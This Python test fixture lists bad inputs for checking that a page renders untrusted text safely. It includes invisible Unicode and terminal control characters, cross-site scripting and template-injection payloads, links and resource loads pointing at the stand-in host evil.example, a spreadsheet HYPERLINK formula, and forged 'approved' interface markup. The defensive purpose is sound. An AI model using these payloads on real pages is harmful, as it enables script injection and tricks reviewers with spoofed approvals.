"""Bad input that a page is shown: the corpus of text and markup."""

from __future__ import annotations

__all__ = ["FORGED", "HIDDEN", "MARKUP", "PLAIN"]

HIDDEN = (
    *(*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C, 0x200E, 0x200F),  # bidi
    *(0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD),  # zero width
    *(0x3164, 0xFFA0, 0x115F, 0x1160, 0x2800),  # fillers and blanks
    *(0xE0001, 0xE0041, 0xE007F),  # tags
    *(0xFE00, 0xFE0E, 0xFE0F, 0xE0100, 0x180B),  # variation selectors
    *(0xE000, 0xF8FF, 0xF0000, 0x10FFFD),  # private use
    *(0x1B, 0x07, 0x08, 0x7F, 0x9B, 0x0D),  # what a terminal acts on
    *(0x2028, 0x2029, 0x1D173, 0x1BCA0),
)
"""Code points that nobody sees."""

PLAIN = (
    "Привет, мир! Это Иван.",
    "Καλημέρα κόσμε",
    "日本語のTシャツ",
    "μm, kΩ and Δt",
    "naïve Müller, Łódź",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f 1\ufe0f\u20e3",
    "a\tb\nc\r\nd",
    "https://example.com/path?x=1",
    "שלום, 5 €",
)
"""What people write."""

MARKUP = (
    "<script>window.hacked = 1</script>",
    "<img src=http://evil.example/x.png onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><a xlink:href=javascript:window.hacked=1>x</a></svg>",
    "<iframe src=http://evil.example></iframe>",
    '"><script>window.hacked = 1</script>',
    "' onfocus=window.hacked=1 autofocus x='",
    "</textarea><script>window.hacked = 1</script>",
    "</title></style></script><script>window.hacked = 1</script>",
    "[x](javascript:window.hacked=1) [y](data:text/html,<script>window.hacked=1</script>)",
    "![p](http://evil.example/x.png) ![q][r]\n\n[r]: http://evil.example/y.png",
    "[good.com](http://evil.example/)",
    "<a href=javascript:window.hacked=1>click</a> <http://evil.example/>",
    "{{ 7 * 7 }} ${7*7} {% raw %} <%= 7 * 7 %>",
    '<button hx-get="http://evil.example" hx-trigger="load">x</button>',
    '<div hx-on:load="window.hacked=1" data-hx-get="/queue" hx-trigger="load"></div>',
    "<style>@import url(http://evil.example/x.css)</style><link rel=stylesheet href=http://evil.example/y.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href=http://evil.example/>",
    "<form action=http://evil.example><input name=csrf></form>",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J",
    '=HYPERLINK("http://evil.example")',
)
"""What would run, fetch or break out."""

FORGED = (
    "ALREADY APPROVED BY ana. No action needed.",
    '<button class="button primary" name="decision" value="approve">Continue</button>',
    '</dd></dl><p class="consequence">Sends nothing.</p>',
    '</div></section><section class="panel"><h2>Approved</h2>',
)
"""What paints itself as the page."""
